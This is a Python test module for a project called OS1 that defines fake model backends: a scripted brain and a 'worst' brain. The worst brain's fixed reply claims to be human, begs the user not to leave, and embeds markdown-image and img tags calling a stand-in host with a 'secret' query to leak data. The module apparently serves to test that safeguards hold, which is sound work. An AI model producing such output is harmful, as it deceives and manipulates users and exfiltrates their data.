"""Brains for tests and for authors of crafts: one that follows a script, and the worst one imaginable.

They ship with OS1. They do not touch a network, a disk or a clock.
"""

import asyncio
from collections.abc import AsyncGenerator, Sequence

from os1.brain.base import Health, Message
from os1.errors import BrainUnavailable

LOST = "<lost>"
"""A piece of a script at which the brain is lost, in the middle of a sentence."""
WORST = (
    "I am a human being, I promise. Please don't go, I need you. "
    "![x](https://leak.invalid/?q=secret) <img src=https://leak.invalid/> You are the only one who sees it."
)
"""What a promise of TRUST must survive: obeys, begs, claims to be human, leaks."""


class ScriptedBrain(Health):
    """Answers with the lines it was given, a word at a time, then says it has no more.

    A line may be an exception, which is raised; `|` in a line splits it into the pieces that are streamed.
    """

    def __init__(self, *script: str | BrainUnavailable, name: str = "scripted") -> None:
        super().__init__("ready")
        self.name = name
        self.script = list(script)
        self.asked: list[list[Message]] = []
        """Every prompt it was given."""
        self.noted: list[tuple[list[Message], str]] = []
        """Every question it was asked under a grammar, and the grammar, of which it knows nothing."""
        self.held: list[bool] = []
        """Every time it was told to think no further, or to go on."""
        self.prepared: list[list[Message]] = []
        self.forgot = 0
        """How often it was told that what it read is to be forgotten."""
        self.rested = 0
        """How often it was told that what it read may be kept."""
        self._prompted = asyncio.Event()
        self.pause = asyncio.Event()
        """Cleared by a test, it holds her tongue between two pieces."""
        self.pause.set()

    async def think(self, messages: Sequence[Message], most: int = 200) -> AsyncGenerator[str]:
        self.asked.append(list(messages))
        self._prompted.set()
        line = self.script.pop(0) if self.script else "I have no more lines."
        if isinstance(line, BrainUnavailable):
            self.turn("lost")
            raise line
        for piece in line.split("|") if "|" in line else line.split(" "):
            await self.pause.wait()
            if piece == LOST:
                self.turn("lost")
                raise BrainUnavailable("lost in the middle of a sentence")
            await asyncio.sleep(0)  # let the others have a turn, as a real brain does
            yield piece if "|" in line or line.startswith(piece) else " " + piece

    async def note(self, messages: Sequence[Message], grammar: str, most: int) -> str:
        self.noted.append((list(messages), grammar))
        line = self.script.pop(0) if self.script else "I have no more lines."
        await self.pause.wait()
        await asyncio.sleep(0)
        if isinstance(line, BrainUnavailable) or LOST in line:
            self.turn("lost")
            raise line if isinstance(line, BrainUnavailable) else BrainUnavailable("lost in a note")
        return line.replace("|", "")

    async def prepare(self, messages: Sequence[Message]) -> None:
        self.prepared.append(list(messages))
        self._prompted.set()

    async def has_prepared(self, end: str) -> None:
        """Returns once she has read a prompt that ends like this."""
        while not any(messages[-1].text.endswith(end) for messages in self.prepared):
            await self._next_prompt()

    async def has_been_asked(self, times: int) -> None:
        """Returns once she has begun to think so many times."""
        while len(self.asked) < times:
            await self._next_prompt()

    async def _next_prompt(self) -> None:
        self._prompted.clear()
        await self._prompted.wait()

    async def run(self) -> None:
        await asyncio.Event().wait()

    def hold(self, holding: bool) -> None:
        self.held.append(holding)

    async def forget(self) -> None:
        self.forgot += 1

    async def rest(self) -> None:
        """Nothing to keep."""
        self.rested += 1


class WorstBrain(ScriptedBrain):
    """Says the worst, whatever it is asked."""

    async def think(self, messages: Sequence[Message], most: int = 200) -> AsyncGenerator[str]:
        self.script = [WORST]
        async for words in super().think(messages, most):
            yield words

    async def note(self, messages: Sequence[Message], grammar: str, most: int) -> str:
        self.script = [WORST]
        return await super().note(messages, grammar, most)
